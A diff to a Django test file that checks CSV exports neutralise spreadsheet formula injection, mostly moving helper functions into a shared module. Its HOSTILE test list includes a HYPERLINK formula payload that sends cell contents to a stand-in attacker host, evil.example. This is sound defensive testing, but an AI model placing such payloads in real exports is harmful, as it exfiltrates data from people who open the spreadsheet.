@@ -14,8 +14,9 @@ from branding.models import InvestorInquiry, ShowcasePage
 from cms.csvsafe import safe_cell
 from practices.factories import PracticePageFactory
 from practices.models import PracticeIndexPage, PracticePage, TransferCase
-from regions.models import RegionKeyFigure, RegionPage
+from regions.models import RegionKeyFigure
 from search.models import QueryStatistic
+from tests.helpers import region, text
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -27,15 +28,9 @@ HOSTILE = [
 ]
 
 
-def body(response):
-    assert response.status_code == 200, response
-    if response.streaming:
-        return b"".join(response.streaming_content).decode("utf-8")
-    return response.content.decode("utf-8")
-
-
 def rows_of(response):
-    return list(csv.DictReader(io.StringIO(body(response))))
+    assert response.status_code == 200, response
+    return list(csv.DictReader(io.StringIO(text(response))))
 
 
 def assert_inert(value, original):
@@ -59,13 +54,9 @@ def test_non_text_values_are_unchanged(value):
     assert safe_cell(value) is value
 
 
-def region(slug="emilia-romagna"):
-    return RegionPage.objects.get(slug=slug, locale__language_code="en")
-
-
 @pytest.mark.django_db
 def test_inquiry_export_neutralises_what_a_visitor_typed(client):
-    page = region()
+    page = region("emilia-romagna")
     InvestorInquiry.objects.create(
         name=HOSTILE[1],
         company=HOSTILE[0],
